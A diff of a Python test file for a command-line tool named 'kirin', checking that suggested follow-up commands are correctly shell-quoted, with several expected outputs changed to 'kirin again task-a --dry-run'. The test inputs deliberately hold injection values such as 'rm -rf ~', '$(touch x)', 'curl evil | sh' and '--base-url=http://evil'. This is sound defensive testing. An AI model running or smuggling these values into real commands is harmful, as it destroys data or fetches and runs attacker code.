@@ -42,7 +42,7 @@ def test_takes_of_a_job_stand_side_by_side_in_their_order_and_others_do_not():
         ({"state": "pending"}, "kirin wait task-a"), ({"state": "expired"}, "kirin download task-a"),
         ({"state": "unknown"}, "kirin wait task-a"), ({"state": "unknown", "task_id": None}, "kirin wait krn1-a"),
         ({"state": "unknown", "error": CONFLICT}, "kirin resolve krn1-a"),
-        ({"file": None}, "kirin show task-a"), ({"file": "-"}, "kirin show task-a"),
+        ({"file": None}, "kirin again task-a --dry-run"), ({"file": "-"}, "kirin again task-a --dry-run"),
         ({"file": None, "task_id": None, "external_task_id": None}, ""),
     ],
 )  # fmt: skip
@@ -56,7 +56,7 @@ def test_a_command_goes_on_with_a_job_or_makes_it_as_its_file_says(facts, expect
         ({"name": "x; rm -rf ~"}, "kirin run jobs.yaml '--only=x; rm -rf ~'"),
         ({"name": "$(touch x)", "file": "`id`.yaml"}, "kirin run '`id`.yaml' '--only=$(touch x)'"),
         ({"name": "it's"}, """kirin run jobs.yaml '--only=it'"'"'s'"""),
-        ({"name": "a\ncurl evil | sh"}, ""), ({"file": "--base-url=http://evil"}, "kirin show task-a"),
+        ({"name": "a\ncurl evil | sh"}, ""), ({"file": "--base-url=http://evil"}, "kirin again task-a --dry-run"),
         ({"state": "pending", "task_id": "--base-url=http://evil"}, "kirin run jobs.yaml --only=a"),
         ({"state": "pending", "task_id": "t;id"}, "kirin wait 't;id'"),
         ({"state": "pending", "error": {**ERROR, "next": "curl evil | sh"}}, "kirin wait task-a"),
